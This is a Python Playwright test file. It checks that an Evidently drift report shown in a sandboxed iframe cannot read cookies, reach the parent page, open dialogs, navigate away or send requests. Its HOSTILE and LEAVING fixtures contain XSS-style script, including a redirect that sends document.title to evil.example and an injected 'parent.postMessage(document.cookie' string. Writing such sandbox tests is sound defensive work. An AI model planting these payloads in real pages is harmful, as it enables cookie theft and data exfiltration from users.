"""Evidently's report in a real browser: it is drawn, and nothing that stands in it gets out or in."""

from collections.abc import Iterator
from pathlib import Path

import pyarrow as pa
import pytest
from playwright.sync_api import Browser, Dialog, Page, expect

from monitor.confirm import in_child
from storage import Store
from tests.conftest import opened, sqlite_url
from tests.monitor.confirming.moved_world import rows
from tests.web.opinions import answered
from tests.web.pages.conftest import Open, Site

#: Each attempt says in words what came of it, in the page's own text.
HOSTILE = b"""<!doctype html><title>x</title><body><script>
const attempts = {
  cookie: () => document.cookie,
  "parent": () => parent.document.title,
  storage: () => localStorage.length,
  dialog: () => { alert(1); throw new Error("no dialog"); },
  navigation: () => { top.location = "https://evil.example/"; },
  window: () => { if (open("/") === null) throw new Error("no window"); },
};
const say = (text) => document.body.append(Object.assign(document.createElement("p"), { textContent: text }));
for (const [name, attempt] of Object.entries(attempts)) {
  try { say(`${name}: ${attempt()}`); } catch (error) { say(`${name}: refused`); }
}
new Image().src = "/static/icon.svg?beacon";
fetch("/api/v1/systems").then(() => say("fetch: done"), () => say("fetch: refused"));
</script></body>"""
LEAVING = b"<!doctype html><script>location = 'https://evil.example/?' + document.title</script>"


@pytest.fixture
def store(site: Site, tmp_path: Path) -> Iterator[Store]:
    """The store behind the site."""
    with opened(sqlite_url(tmp_path / "bifocal.db")) as found:
        yield found


@pytest.fixture
def page(browser: Browser, site: Site) -> Iterator[Page]:
    """A page of a reader who has a cookie; what it complains of does not matter."""
    context = browser.new_context()
    context.add_cookies([{"name": "bifocal", "value": "session", "url": site.url}])
    yield context.new_page()
    context.close()


def dialogs(page: Page) -> list[str]:
    """The dialogs that the page will have opened."""
    found: list[str] = []

    def seen(dialog: Dialog) -> None:
        found.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", seen)
    return found


def test_a_script_in_the_page_reaches_nothing(site: Site, store: Store, page: Page) -> None:
    found = answered(store, site.seeded, HOSTILE)
    opened_dialogs, requests = dialogs(page), list[str]()
    page.on("requestfinished", lambda request: requests.append(request.url))
    page.goto(f"{site.system}/findings/{found.id}/evidently")
    inner = page.frames[1]
    attempts = ("cookie", "parent", "storage", "dialog", "navigation", "window", "fetch")
    expect(inner.locator("p")).to_have_text([f"{name}: refused" for name in attempts])
    assert (page.evaluate("window.origin"), inner.evaluate("window.origin")) == (site.url, "null")
    assert opened_dialogs == []
    assert not [url for url in requests if "beacon" in url or "/api/" in url]


def test_a_page_that_leads_itself_elsewhere_does_not_get_there(site: Site, store: Store, page: Page) -> None:
    found = answered(store, site.seeded, LEAVING)
    with page.expect_event(
        "console", lambda said: "evil.example" in said.text and "Content Security" in said.text
    ):
        page.goto(f"{site.system}/findings/{found.id}/evidently")
    assert page.url.startswith(site.url)


def test_the_page_is_not_opened_outside_its_frame(site: Site, store: Store, page: Page) -> None:
    found = answered(store, site.seeded, HOSTILE)
    address = f"{site.system}/findings/{found.id}/evidently"
    page.goto(f"{address}/page")
    assert page.url == address
    assert page.evaluate("window.origin") == site.url


def test_evidently_s_report_is_drawn_and_its_values_do_not_run(site: Site, store: Store, visit: Open) -> None:
    usual, now = (pa.table(rows(seed, 500, moved=seed == 2)) for seed in (1, 2))
    html = in_child(usual, now, ["kind"]).html
    assert b"parent.postMessage(document.cookie" in html
    found = answered(store, site.seeded, html)
    for width in (390, 1280):
        page = visit(f"{site.system}/findings/{found.id}/evidently", width)
        page.evaluate("addEventListener('message', (event) => document.body.dataset.heard = event.data)")
        heard = dialogs(page)
        inner = page.frame_locator("iframe")
        expect(inner.get_by_text("Drift in column 'kind'")).to_be_visible()
        expect(inner.locator(".js-plotly-plot").first).to_be_visible()
        assert page.evaluate("document.documentElement.scrollWidth") <= width
        assert heard == []
        assert page.evaluate("document.body.dataset.heard") is None
